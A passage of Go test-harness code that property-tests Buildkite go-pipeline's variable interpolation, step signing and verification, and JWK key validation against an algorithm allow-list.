		if !nilEnv && fmt.Sprint(renv.M) != fmt.Sprint(menv.M) {
			return "caller environment differs from the model after the call", map[string]any{"got": renv.M, "want": menv.M}, false
		}
		// determinism across runs, on the marshalled form too
		jb, err := json.Marshal(p)
		if err == nil {
			if rep == 0 {
				firstJSON = string(jb)
			} else if string(jb) != firstJSON {
				return fmt.Sprintf("run %d gives a different result than run 0 on identical input", rep), map[string]any{"run0": clip(firstJSON, 3000), "runN": clip(string(jb), 3000)}, false
			}
		}
	}
	return "", nil, false
}

func checkC04(c *run.Ctx) {
	// witnesses
	for _, f := range c.FindingsFor() {
		var wv struct {
			Document string            `json:"document"`
			Env      map[string]string `json:"env"`
		}
		switch {
		case f.ID == "F2":
			// schedule dependent: a 12-entry plugin config whose keys and values are escaped references
			cfg := doc.M()
			for i := 0; i < 12; i++ {
				cfg.Map = append(cfg.Map, doc.P(fmt.Sprintf("$$X#k%d", i), doc.S(fmt.Sprintf("$$Y#v%d", i))))
			}
			text := string(doc.ToJSON(doc.M(doc.P("steps", doc.L(doc.M(doc.P("command", doc.S("c")), doc.P("plugins", doc.L(doc.M(doc.P("p#v1", cfg))))))))))
			w := &c04Walk{byField: map[string]int{}}
			what, _, _ := c04Run(text, c04Env(), 300, w)
			c.Witness(f, what != "", "12-entry plugin config with escaped references in keys and values, 300 runs: "+what)
		case len(f.Witness) > 0 && json.Unmarshal(f.Witness, &wv) == nil && wv.Document != "":
			w := &c04Walk{byField: map[string]int{}}
			what, _, _ := c04Run(wv.Document, wv.Env, 3, w)
			c.Witness(f, what != "", fmt.Sprintf("%q: %s", wv.Document, what))
		}
	}
	n := c.N(3000, 30000)
	reps := c.N(12, 60)
	body := func(i int, r *rand.Rand, noEnv bool) {
		refs := c04Refs
		errCase := i%10 == 9
		if errCase {
			refs = append(append([]string{}, c04Refs...), "${NOPE?required}", "${NOPE:?required}")
		}
		o := gen.PipeOpts{
			Str:           gen.StringOpts{},
			Refs:          refs,
			UniqueStrings: true,
			Coincide:      true,
			BlockNames:    []string{"BLK1", "BLK2", "X", "Y"},
			Unknown:       i%3 == 0,
			Signature:     true,
			Sharing:       i%3 == 1,
			BigMaps:       i%2 == 0,
			NoTime:        true,
		}.NoSweep()
		d, err := gen.Pipeline(r, o)
		if err != nil {
			c.Count("generator_errors", 1)
			return
		}
		id := run.CaseID("doc", i)
		if noEnv {
			id = run.CaseID("no-env", i)
		}
		rs := renderings(d, r, 1, func(style, why string) { c.Count("renderings_discarded_generator_invalid", 1) })
		rd := rs[len(rs)-1]
		w := &c04Walk{byField: map[string]int{}}
		envMap := c04Env()
		if noEnv {
			envMap = nil
			c.Count("documents_interpolated_without_an_environment", 1)
		}
		what, extra, errPath := c04Run(rd.Text, envMap, reps, w)
		c.Eval(1)
		if what != "" {
			m := map[string]any{"what": what, "style": rd.Style, "document": clip(rd.Text, 8000), "env": envMap}
			for k, v := range extra {
				m[k] = v
			}
			c.Violation(id, m)
			return
		}
		if errPath {
			c.Count("error_path_cases", 1)
			return
		}
		c.Count("interpolation_runs", reps)
		c.Count("strings_checked", w.strings)
		c.Count("strings_changed_by_expansion", w.changed)
		c.Count("strings_with_escaped_references", w.escaped)
		c.Count("go_maps_over_8_entries_with_renamed_keys", w.mapsOver8Renamed)
		for k, v := range w.byField {
			c.Count("position_"+k, v)
		}
		c.Feature(d.FeatureVector())
		if c.WantSample() && d.NCommand > 0 && len(rd.Text) < 2500 {
			c.Sample(map[string]any{"document": rd.Text, "env": c04Env()})
		}
	}
	c.Parallel("doc", n, func(i int, r *rand.Rand) { body(i, r, false) })
	// Interpolate(nil, ...): "no environment" is an empty environment private to the call. Run on one goroutine, so
	// that anything one call leaves behind for the next shows as a difference from the model, not as a crash.
	c.Phase("no-env", func() {
		for i := 0; i < c.N(400, 6000); i++ {
			if c.Only != "" && c.Only != run.CaseID("no-env", i) {
				continue
			}
			body(i, c.RNG("no-env", i), true)
		}
	})
	// Nesting depth: references sit 1 to 120 (600) levels deep inside unknown fields of the pipeline, of a step and
	// inside a plugin configuration, under sequences and under mappings whose keys carry references too
	c.Phase("depth", func() {
		maxDepth := c.N(120, 600)
		c.Parallel("depth", maxDepth*6, func(i int, r *rand.Rand) {
			depth, where, seq := 1+i/6, (i%6)/2, i%2 == 0
			var nested string
			if seq {
				nested = strings.Repeat("[", depth) + `"leaf $X $$X ${Y}"` + strings.Repeat("]", depth)
			} else {
				var b strings.Builder
				for k := 0; k < depth; k++ {
					fmt.Fprintf(&b, `{"k%d_${Y}":`, k)
				}
				b.WriteString(`"leaf $X $$X ${Y}"`)
				b.WriteString(strings.Repeat("}", depth))
				nested = b.String()
			}
			var text string
			switch where {
			case 0:
				text = `{"deep":` + nested + `,"steps":[{"command":"c $X"}]}`
			case 1:
				text = `{"steps":[{"command":"c $X","deep":` + nested + `}]}`
			default:
				text = `{"steps":[{"command":"c $X","plugins":[{"p#v1":{"cfg":` + nested + `}}]}]}`
			}
			w := &c04Walk{byField: map[string]int{}}
			what, extra, _ := c04Run(text, c04Env(), 2, w)
			c.Eval(1)
			c.Feature("depth", depth/10, where, seq)
			if what != "" {
				m := map[string]any{"what": fmt.Sprintf("reference nested %d levels deep (%s, position %d): %s", depth, map[bool]string{true: "sequences", false: "mappings"}[seq], where, what), "document": clip(text, 2000)}
				for k, v := range extra {
					m[k] = v
				}
				c.Violation(run.CaseID("depth", i), m)
				return
			}
			c.Count("deep_documents_checked", 1)
			c.Count("strings_checked", w.strings)
			c.Count("strings_changed_by_expansion", w.changed)
		})
	})
	// Pipelines built in code rather than parsed: unknown fields hold the typed containers a program would use
	// (map[string]string, []string, *ordered.Map[string,string], *string next to the untyped ones)
	c.Phase("typed", func() {
		c.Parallel("typed", c.N(3000, 100000), func(i int, r *rand.Rand) {
			id := run.CaseID("typed", i)
			uid := 0
			str := func() string {
				uid++
				ref := c04Refs[r.IntN(len(c04Refs))]
				if r.IntN(2) == 0 {
					return fmt.Sprintf("%s#%d", ref, uid)
				}
				return fmt.Sprintf("%d#%s", uid, ref)
			}
			var build func(depth int) (any, *doc.Node)
			build = func(depth int) (any, *doc.Node) {
				k := r.IntN(9)
				if depth >= 3 {
					k = r.IntN(6)
				}
				n := 1 + r.IntN(4)
				if r.IntN(10) == 0 {
					n = 9 + r.IntN(12)
				}
				switch k {
				case 0:
					s := str()
					return s, doc.S(s)
				case 1:
					s := str()
					return &s, doc.S(s)
				case 2:
					l, d := []string{}, doc.L()
					d.Seq = []*doc.Node{}
					for j := 0; j < n; j++ {
						s := str()
						l, d.Seq = append(l, s), append(d.Seq, doc.S(s))
					}
					return l, d
				case 3:
					m, d := map[string]string{}, &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
					for j := 0; j < n; j++ {
						ks, vs := str(), str()
						m[ks] = vs
						d.Map = append(d.Map, doc.P(ks, doc.S(vs)))
					}
					return m, d
				case 4:
					m, d := ordered.NewMap[string, string](n), &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}, OrderedKeys: true}
					for j := 0; j < n; j++ {
						ks, vs := str(), str()
						m.Set(ks, vs)
						d.Map = append(d.Map, doc.P(ks, doc.S(vs)))
					}
					return m, d
				case 5:
					return int64(uid), doc.I(int64(uid))
				case 6:
					l, d := []any{}, doc.L()
					d.Seq = []*doc.Node{}
					for j := 0; j < n; j++ {
						v, vd := build(depth + 1)
						l, d.Seq = append(l, v), append(d.Seq, vd)
					}
					return l, d
				case 7:
					m, d := map[string]any{}, &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
					for j := 0; j < n; j++ {
						ks := str()
						v, vd := build(depth + 1)
						m[ks] = v
						d.Map = append(d.Map, doc.P(ks, vd))
					}
					return m, d
				default:
					m, d := ordered.NewMap[string, any](n), &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}, OrderedKeys: true}
					for j := 0; j < n; j++ {
						ks := str()
						v, vd := build(depth + 1)
						m.Set(ks, v)
						d.Map = append(d.Map, doc.P(ks, vd))
					}
					return m, d
				}
			}
			menv := refmodel.NewEnv(false, c04Env())
			var expand func(n *doc.Node) (*doc.Node, error)
			expand = func(n *doc.Node) (*doc.Node, error) {
				switch n.Kind {
				case doc.KStr:
					s, err := interpolate.Interpolate(menv, n.Str)
					return doc.S(s), err
				case doc.KSeq:
					o := doc.L()
					o.Seq = []*doc.Node{}
					for _, e := range n.Seq {
						x, err := expand(e)
						if err != nil {
							return nil, err
						}
						o.Seq = append(o.Seq, x)
					}
					return o, nil
				case doc.KMap:
					o := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}, OrderedKeys: n.OrderedKeys}
					for _, p := range n.Map {
						ks, err := interpolate.Interpolate(menv, p.Key)
						if err != nil {
							return nil, err
						}
						x, err := expand(p.Val)
						if err != nil {
							return nil, err
						}
						o.Map = append(o.Map, doc.P(ks, x))
					}
					return o, nil
				}
				return n, nil
			}
			type slot struct {
				name  string
				get   func() any
				model *doc.Node
			}
			var slots []slot
			mk := func(name string, holder map[string]any) {
				v, d := build(0)
				if _, isPtr := v.(*string); isPtr && r.IntN(2) == 0 {
					v, d = build(1)
				}
				holder["typed"] = v
				slots = append(slots, slot{name, func() any { return holder["typed"] }, d})
			}
			step := &pipeline.CommandStep{Command: "c", RemainingFields: map[string]any{}}
			group := &pipeline.GroupStep{Steps: pipeline.Steps{&pipeline.CommandStep{Command: "d", RemainingFields: map[string]any{}}}, RemainingFields: map[string]any{}}
			trig := &pipeline.TriggerStep{Contents: map[string]any{"trigger": "t"}}
			wait := &pipeline.WaitStep{Contents: map[string]any{"wait": nil}}
			input := &pipeline.InputStep{Contents: map[string]any{"block": "b"}}
			unk := &pipeline.UnknownStep{}
			p := &pipeline.Pipeline{Steps: pipeline.Steps{step, group, trig, wait, input, unk}, RemainingFields: map[string]any{}}
			mk("command step", step.RemainingFields)
			mk("group step", group.RemainingFields)
			mk("command step in group", group.Steps[0].(*pipeline.CommandStep).RemainingFields)
			mk("trigger step", trig.Contents)
			mk("wait step", wait.Contents)
			mk("input step", input.Contents)
			mk("pipeline", p.RemainingFields)
			{
				v, d := build(0)
				unk.Contents = v
				slots = append(slots, slot{"unknown step contents", func() any { return unk.Contents }, d})
			}
			{
				// a cache built in code: whatever its flags say, its strings are strings of the pipeline
				cn, cs, cp1, cp2, ck, cv := str(), str(), str(), str(), str(), str()
				step.Cache = &pipeline.Cache{Disabled: i%2 == 0, Name: cn, Size: cs, Paths: []string{cp1, cp2}, RemainingFields: map[string]any{ck: cv}}
				slots = append(slots, slot{"cache (disabled flag set in half of the cases)", func() any {
					return map[string]any{"name": step.Cache.Name, "size": step.Cache.Size, "paths": step.Cache.Paths, "rest": step.Cache.RemainingFields}
				}, doc.M(doc.P("name", doc.S(cn)), doc.P("paths", doc.L(doc.S(cp1), doc.S(cp2))), doc.P("rest", doc.M(doc.P(ck, doc.S(cv)))), doc.P("size", doc.S(cs)))})
			}
			plugCfg, plugDoc := build(0)
			step.Plugins = pipeline.Plugins{{Source: "p#v1", Config: plugCfg}}
			slots = append(slots, slot{"plugin config", func() any { return step.Plugins[0].Config }, plugDoc})
			var ierr error
			if pi := run.Guard(func() { ierr = p.Interpolate(refmodel.NewEnv(false, c04Env()), false) }); pi != nil {
				c.Violation(id, map[string]any{"what": "Interpolate panicked on a pipeline built in code: " + pi.Value, "stack": pi.Stack})
				return
			}
			c.Eval(1)
			if ierr != nil {
				c.Violation(id, map[string]any{"what": "Interpolate failed on a pipeline built in code (all references resolve): " + ierr.Error()})
				return
			}
			for _, sl := range slots {
				want, err := expand(sl.model)
				if err != nil {
					c.Infra("typed: model expansion failed: %v", err)
					return
				}
				got := anyToDoc(sl.get())
				if diff := doc.Equal(want, got, doc.EqOpts{HonourOrderedKeys: true}); diff != "" {
					c.Violation(id, map[string]any{"what": "typed containers in the unknown fields of a " + sl.name + " built in code: after interpolation they differ from the single-pass expansion of every string: " + diff,
						"before": clip(sl.model.String(), 3000), "after": clip(got.String(), 3000), "go_type": fmt.Sprintf("%T", sl.get())})
					return
				}
				c.Count("typed_container_slots_checked", 1)
				c.Count(fmt.Sprintf("typed_top_level_%T", sl.get()), 1)
			}
		})
	})
	c.Finish("exploration",
		"a `typed` phase builds pipelines in code whose unknown fields, step contents and plugin configs hold typed Go containers (string, *string, []string, map[string]string, *ordered.Map[string,string], []any, map[string]any, *ordered.Map[string,any], nested) and compares them with the model expansion after Interpolate; grammar-generated documents whose every string (values and keys, every position class: labels, keys, commands, plugin sources and configs, step env names and values, matrix setup/adjustments incl. skip and extras, cache settings, group/wait/input/trigger/unknown contents, pipeline extras and env block) is built around reference snippets ($X, ${X}, escaped $$X and \\$X, defaults, substrings, unset, nested defaults; X expands to another reference to expose a second pass) and carries a unique id; Go maps of up to 40 entries with renamed keys; YAML aliases sharing subtrees; every tenth case carries a required-or-fail reference. Expected = the twin parsed from the same text, converted by an independent reflective walker and mapped through the interpolate library once per string (env block per the C10 fold); each case is run 12 (quick) / 60 (thorough) times on fresh parses and all runs compared. distinct_nontrivial counts distinct feature vectors",
		nil,
		[]string{"github.com/buildkite/interpolate is trusted for single-string expansion", "signatures are expected untouched", "post-expansion key collisions are avoided by unique ids (collision semantics are not part of the property)"})
}
