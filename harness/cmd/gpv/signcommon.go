package main

import (
	"context"
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/signature"

	"verif/doc"
	"verif/keys"
	"verif/refmodel"
)

// payloadLogger captures the canonical payload from the debug channel of
// Sign / Verify ("Signed Step: %s checksum: %x").
type payloadLogger struct {
	mu       sync.Mutex
	payloads [][]byte
}

func (l *payloadLogger) Debug(f string, v ...any) {
	if strings.HasPrefix(f, "Signed Step:") && len(v) > 0 {
		if b, ok := v[0].([]byte); ok {
			l.mu.Lock()
			l.payloads = append(l.payloads, append([]byte(nil), b...))
			l.mu.Unlock()
		}
	}
}

func (l *payloadLogger) last() []byte {
	l.mu.Lock()
	defer l.mu.Unlock()
	if len(l.payloads) == 0 {
		return nil
	}
	return l.payloads[len(l.payloads)-1]
}

var bg = context.Background()

// signStep signs a step with invariants and returns signature and payload.
func signStep(kp *keys.Pair, step *pipeline.CommandStep, repo string, penv map[string]string) (*pipeline.Signature, []byte, error) {
	l := &payloadLogger{}
	sf := &signature.CommandStepWithInvariants{CommandStep: *step, RepositoryURL: repo}
	sig, err := signature.Sign(bg, kp.Signer, sf, signature.WithEnv(penv), signature.WithLogger(l), signature.WithDebugSigning(true))
	return sig, l.last(), err
}

// verifyStep verifies sig over the presented step and returns the payload Verify built.
func verifyStep(verifier any, sig *pipeline.Signature, step *pipeline.CommandStep, repo string, venv map[string]string) ([]byte, error) {
	l := &payloadLogger{}
	sf := &signature.CommandStepWithInvariants{CommandStep: *step, RepositoryURL: repo}
	err := signature.Verify(bg, sig, verifier, sf, signature.WithEnv(venv), signature.WithLogger(l), signature.WithDebugSigning(true))
	return l.last(), err
}

// ---- semantic form of signed content (independent of the marshalling code)

func semNumber(f float64) *doc.Node {
	if math.IsNaN(f) || math.IsInf(f, 0) {
		return doc.S("nonfinite:" + strconv.FormatFloat(f, 'g', -1, 64))
	}
	if f == 0 {
		f = 0 // -0 == 0
	}
	return doc.S("num:" + strconv.FormatFloat(f, 'g', -1, 64))
}

// semValue canonicalises an untyped value: mappings sorted, numbers by
// numeric value, timestamps as their RFC 3339 string.
func semValue(v any) *doc.Node {
	switch t := v.(type) {
	case nil:
		return doc.Null()
	case bool:
		return doc.B(t)
	case int:
		return semNumber(float64(t))
	case int64:
		return semNumber(float64(t))
	case uint64:
		return semNumber(float64(t))
	case float64:
		return semNumber(t)
	case string:
		return doc.S("str:" + t)
	case time.Time:
		return doc.S("str:" + t.Format(time.RFC3339Nano))
	case []any:
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for _, e := range t {
			n.Seq = append(n.Seq, semValue(e))
		}
		return n
	case []string:
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for _, e := range t {
			n.Seq = append(n.Seq, doc.S("str:"+e))
		}
		return n
	case map[string]any:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for _, k := range refmodel.SortedKeys(t) {
			n.Map = append(n.Map, doc.P(k, semValue(t[k])))
		}
		return n
	case map[string]string:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for _, k := range refmodel.SortedKeys(t) {
			n.Map = append(n.Map, doc.P(k, doc.S("str:"+t[k])))
		}
		return n
	}
	if d := anyToDoc(v); d != nil { // ordered maps etc.
		return d.SortedCopy()
	}
	return doc.S(fmt.Sprintf("<%T>", v))
}

func semMatrix(m *pipeline.Matrix) *doc.Node {
	if m == nil || (len(m.Setup) == 0 && len(m.Adjustments) == 0 && len(m.RemainingFields) == 0) {
		return doc.Null()
	}
	out := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	setup := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	for _, d := range refmodel.SortedKeys(m.Setup) {
		if m.Setup[d] == nil {
			setup.Map = append(setup.Map, doc.P(d, doc.Null()))
			continue
		}
		setup.Map = append(setup.Map, doc.P(d, semValue(m.Setup[d])))
	}
	out.Map = append(out.Map, doc.P("setup", setup))
	adjs := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
	for _, a := range m.Adjustments {
		an := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		if a != nil {
			an.Map = append(an.Map, doc.P("with", semValue(map[string]string(a.With))))
			switch s := a.Skip.(type) {
			case nil:
			case bool:
				if s {
					an.Map = append(an.Map, doc.P("skip", doc.B(true)))
				}
			default:
				an.Map = append(an.Map, doc.P("skip", semValue(s)))
			}
			an.Map = append(an.Map, doc.P("extras", semValue(a.RemainingFields)))
		}
		adjs.Seq = append(adjs.Seq, an)
	}
	out.Map = append(out.Map, doc.P("adjustments", adjs))
	if len(m.RemainingFields) > 0 {
		out.Map = append(out.Map, doc.P("extras", semValue(m.RemainingFields)))
	}
	return out
}

// semanticForm is the harness's reading of "the semantic content of the
// signed fields": command; step env as sorted pairs (nil = empty); plugins
// as an ordered list of (canonical source, canonical config; an empty config
// = null); matrix (empty = nil); repository URL; the pipeline env variables
// not shadowed by the step env; the algorithm name.
func semanticForm(step *pipeline.CommandStep, penv map[string]string, repo, alg string) string {
	root := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	root.Map = append(root.Map, doc.P("alg", doc.S(alg)), doc.P("command", doc.S(step.Command)), doc.P("repo", doc.S(repo)))
	root.Map = append(root.Map, doc.P("env", semValue(map[string]string(step.Env))))
	pl := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
	for _, p := range step.Plugins {
		if p == nil {
			pl.Seq = append(pl.Seq, doc.Null())
			continue
		}
		cfg := semValue(p.Config)
		if cfg.IsEmptyValue() {
			cfg = doc.Null()
		}
		pl.Seq = append(pl.Seq, doc.M(doc.P("source", doc.S(refmodel.PluginCanonical(p.Source))), doc.P("config", cfg)))
	}
	root.Map = append(root.Map, doc.P("plugins", pl), doc.P("matrix", semMatrix(step.Matrix)))
	pe := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	names := make([]string, 0, len(penv))
	for k := range penv {
		if _, shadowed := step.Env[k]; !shadowed {
			names = append(names, k)
		}
	}
	sort.Strings(names)
	for _, k := range names {
		pe.Map = append(pe.Map, doc.P(k, doc.S(penv[k])))
	}
	root.Map = append(root.Map, doc.P("pipeline_env", pe))
	return root.String()
}
