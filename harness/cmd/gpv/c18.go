package main

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"encoding/json"
	"fmt"
	mrand "math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"github.com/buildkite/go-pipeline/jwkutil"
	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/lestrrat-go/jwx/v2/jws"

	"verif/run"
)

func init() { register("C18", checkC18) }

type c18Key struct {
	name string
	kty  string
	raw  any
}

func c18Thumb(k jwk.Key) string {
	pk, err := k.PublicKey()
	if err != nil {
		pk = k
	}
	t, err := pk.Thumbprint(crypto.SHA256)
	if err != nil {
		return "?"
	}
	return fmt.Sprintf("%x", t)
}

func checkC18(c *run.Ctx) {
	// ---- Phase 1: exhaustive (key type x half x algorithm) table.
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	must(c, err)
	ec256, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	must(c, err)
	ec384, err := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	must(c, err)
	ec521, err := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
	must(c, err)
	edPub, edPriv, err := ed25519.GenerateKey(rand.Reader)
	must(c, err)
	octKey := make([]byte, 64)
	_, _ = rand.Read(octKey)
	raws := []c18Key{
		{"RSA-private", "RSA", rsaKey}, {"RSA-public", "RSA", &rsaKey.PublicKey},
		{"EC-P256-private", "EC", ec256}, {"EC-P256-public", "EC", &ec256.PublicKey},
		{"EC-P384-private", "EC", ec384}, {"EC-P384-public", "EC", &ec384.PublicKey},
		{"EC-P521-private", "EC", ec521}, {"EC-P521-public", "EC", &ec521.PublicKey},
		{"OKP-Ed25519-private", "OKP", edPriv}, {"OKP-Ed25519-public", "OKP", edPub},
		{"oct", "oct", octKey},
	}
	type algCase struct {
		label string
		set   func(k jwk.Key) error
		name  string // algorithm name ("" = none set)
	}
	var algs []algCase
	seenAlg := map[string]bool{}
	addAlg := func(label, name string, v any) {
		if seenAlg[label+"/"+name] {
			return
		}
		seenAlg[label+"/"+name] = true
		algs = append(algs, algCase{label: label, name: name, set: func(k jwk.Key) error { return k.Set(jwk.AlgorithmKey, v) }})
	}
	for _, a := range jwa.SignatureAlgorithms() {
		addAlg("signature", a.String(), a)
		addAlg("signature-as-string", a.String(), a.String())
	}
	for _, a := range jwa.KeyEncryptionAlgorithms() {
		addAlg("key-encryption", a.String(), a)
	}
	for _, a := range jwa.ContentEncryptionAlgorithms() {
		addAlg("content-encryption", a.String(), a.String())
	}
	for _, s := range []string{"", "bogus", "ps512", "PS512 ", "es512", "eddsa", "EDDSA", "none", "RS512 PS512", "PS512\x00"} {
		addAlg("unknown-name", s, s)
	}
	algs = append(algs, algCase{label: "missing", name: "<missing>", set: func(jwk.Key) error { return nil }})
	allowed := map[string]string{"RSA": "PS512", "EC": "ES512", "OKP": "EdDSA"}
	accepted, rejected := 0, 0
	for _, rk := range raws {
		for _, ac := range algs {
			k, err := jwk.FromRaw(rk.raw)
			must(c, err)
			id := fmt.Sprintf("table/%s/%s/%s", rk.name, ac.label, ac.name)
			if err := ac.set(k); err != nil {
				// The JOSE library refused to store this algorithm value; the
				// key then has no algorithm.
				c.Count("alg_value_refused_by_jose_library", 1)
			}
			want := ac.label != "missing" && ac.label != "unknown-name" && allowed[rk.kty] == ac.name && (ac.label == "signature" || ac.label == "signature-as-string")
			if _, has := k.Get(jwk.AlgorithmKey); !has {
				want = false
			}
			var verr error
			if pi := run.Guard(func() { verr = jwkutil.Validate(k) }); pi != nil {
				c.Violation(id, map[string]any{"what": "Validate panicked: " + pi.Value, "stack": pi.Stack})
				continue
			}
			c.Eval(1)
			c.Feature(rk.name, ac.label, ac.name)
			got := verr == nil
			if got != want {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("Validate(%s with alg %q [%s]) accepted=%v (err=%v); allow-list says %v", rk.name, ac.name, ac.label, got, verr, want)})
				continue
			}
			if got {
				accepted++
			} else {
				rejected++
			}
			if c.WantSample() && (got || ac.name == "RS512" || ac.name == "HS512") {
				c.Sample(map[string]any{"key": rk.name, "alg": ac.name, "alg_class": ac.label, "accepted": got, "err": fmt.Sprint(verr)})
			}
		}
	}
	c.Count("table_accepted", accepted)
	c.Count("table_rejected", rejected)
	c.Count("table_algorithm_values", len(algs))
	c.Count("table_keys", len(raws))

	// Structurally invalid keys with an approved algorithm must be rejected.
	for _, mk := range []struct {
		name   string
		raw    any
		alg    jwa.SignatureAlgorithm
		remove string
	}{
		{"RSA-public-without-n", &rsaKey.PublicKey, jwa.PS512, jwk.RSANKey},
		{"RSA-public-without-e", &rsaKey.PublicKey, jwa.PS512, jwk.RSAEKey},
		{"RSA-private-without-d", rsaKey, jwa.PS512, jwk.RSADKey},
		{"EC-public-without-x", &ec521.PublicKey, jwa.ES512, jwk.ECDSAXKey},
		{"EC-public-without-crv", &ec521.PublicKey, jwa.ES512, jwk.ECDSACrvKey},
		{"EC-private-without-d", ec521, jwa.ES512, jwk.ECDSADKey},
		{"OKP-public-without-x", edPub, jwa.EdDSA, jwk.OKPXKey},
		{"OKP-private-without-d", edPriv, jwa.EdDSA, jwk.OKPDKey},
	} {
		k, err := jwk.FromRaw(mk.raw)
		must(c, err)
		_ = k.Set(jwk.AlgorithmKey, mk.alg)
		if err := k.Remove(mk.remove); err != nil {
			c.Count("structurally_invalid_not_constructible", 1)
			continue
		}
		if k.Validate() == nil {
			// the JOSE library itself considers the key fine; not a structural defect
			c.Count("structurally_invalid_not_constructible", 1)
			continue
		}
		var verr error
		if pi := run.Guard(func() { verr = jwkutil.Validate(k) }); pi != nil {
			c.Violation("invalid/"+mk.name, map[string]any{"what": "Validate panicked: " + pi.Value, "stack": pi.Stack})
			continue
		}
		c.Eval(1)
		c.Feature("invalid", mk.name)
		if verr == nil {
			c.Violation("invalid/"+mk.name, map[string]any{"what": "structurally invalid key " + mk.name + " accepted"})
		}
		c.Count("structurally_invalid_rejected", 1)
	}
	// A partially stripped key (JSON with one required member removed) must not load+validate.
	c18Stripped(c, rsaKey, ec521, edPriv)

	// ---- Phase 2: generated pairs validate and cross-verify on the diagonal only.
	type ident struct {
		alg       jwa.SignatureAlgorithm
		priv, pub jwk.Key
		pubSet    jwk.Set
		kid       string
	}
	var ids []ident
	reps := c.N(3, 6) // kids repeat (i%2): pairs 0 and 2 of each algorithm share a key id but must not share key material
	for _, alg := range []jwa.SignatureAlgorithm{jwa.EdDSA, jwa.ES512, jwa.PS512} {
		for i := 0; i < reps; i++ {
			kid := fmt.Sprintf("kid-%s-%d", alg, i%2) // kids repeat across some pairs: same kid, different material
			privSet, pubSet, err := jwkutil.NewKeyPair(kid, alg)
			if err != nil {
				c.Violation("gen/"+alg.String(), map[string]any{"what": "NewKeyPair failed: " + err.Error()})
				continue
			}
			priv, _ := privSet.Key(0)
			pub, _ := pubSet.Key(0)
			for half, k := range map[string]jwk.Key{"private": priv, "public": pub} {
				if err := jwkutil.Validate(k); err != nil {
					c.Violation("gen/"+alg.String(), map[string]any{"what": fmt.Sprintf("generated %s %s key does not validate: %v", alg, half, err)})
				}
				if k.KeyID() != kid || k.Algorithm().String() != alg.String() {
					c.Violation("gen/"+alg.String(), map[string]any{"what": fmt.Sprintf("generated %s key has kid %q alg %q", half, k.KeyID(), k.Algorithm())})
				}
				c.Count("generated_halves_validated", 1)
			}
			ids = append(ids, ident{alg, priv, pub, pubSet, kid})
		}
	}
	// pairs generated without a key id validate just the same (several draws: attribute order inside the generator
	// is a Go map's)
	for _, alg := range []jwa.SignatureAlgorithm{jwa.EdDSA, jwa.ES512, jwa.PS512} {
		for rep, n := 0, c.N(12, 40); rep < n; rep++ {
			if alg == jwa.PS512 && rep >= 4 {
				break // RSA generation is slow; the other two cover the shared code path
			}
			privSet, pubSet, err := jwkutil.NewKeyPair("", alg)
			if err != nil {
				c.Violation("gen/nokid-"+alg.String(), map[string]any{"what": "NewKeyPair with an empty key id failed: " + err.Error()})
				break
			}
			for half, set := range map[string]jwk.Set{"private": privSet, "public": pubSet} {
				k, _ := set.Key(0)
				c.Eval(1)
				if err := jwkutil.Validate(k); err != nil {
					c.Violation("gen/nokid-"+alg.String(), map[string]any{"what": fmt.Sprintf("%s key of a %s pair generated with an empty key id does not validate (draw %d): %v", half, alg, rep, err)})
				}
				c.Count("generated_halves_without_kid_validated", 1)
			}
		}
	}
	// symmetric keys, including the ones the library itself generates, never validate
	for _, alg := range []jwa.SignatureAlgorithm{jwa.HS256, jwa.HS384, jwa.HS512} {
		type gen struct {
			how       string
			priv, pub jwk.Set
			err       error
		}
		var gens []gen
		a, b, err := jwkutil.NewKeyPair("kid-sym-"+alg.String(), alg)
		gens = append(gens, gen{"NewKeyPair", a, b, err})
		a, b, err = jwkutil.NewSymmetricKeyPairFromString("kid-sym2-"+alg.String(), "a shared secret of some length, "+alg.String(), alg)
		gens = append(gens, gen{"NewSymmetricKeyPairFromString", a, b, err})
		for _, g := range gens {
			if g.err != nil {
				c.Count("symmetric_generation_refused", 1) // refusing to generate one is fine too
				continue
			}
			for half, set := range map[string]jwk.Set{"signing": g.priv, "verification": g.pub} {
				if set == nil {
					continue
				}
				for it := 0; it < set.Len(); it++ {
					k, _ := set.Key(it)
					c.Eval(1)
					if err := jwkutil.Validate(k); err == nil {
						c.Violation("gen/sym-"+alg.String(), map[string]any{"what": fmt.Sprintf("the %s key of a symmetric %s pair made by %s passes key validation", half, alg, g.how)})
					}
					c.Count("generated_symmetric_keys_rejected", 1)
				}
			}
		}
	}
	payload := []byte("payload to sign")
	for i, s := range ids {
		sig, err := jws.Sign(nil, jws.WithKey(s.alg, s.priv), jws.WithDetachedPayload(payload), jws.WithCompact())
		if err != nil {
			c.Violation(fmt.Sprintf("cross/%d", i), map[string]any{"what": "signing with a generated private key failed: " + err.Error()})
			continue
		}
		for j, v := range ids {
			_, errSet := jws.Verify(sig, jws.WithKeySet(v.pubSet), jws.WithDetachedPayload(payload))
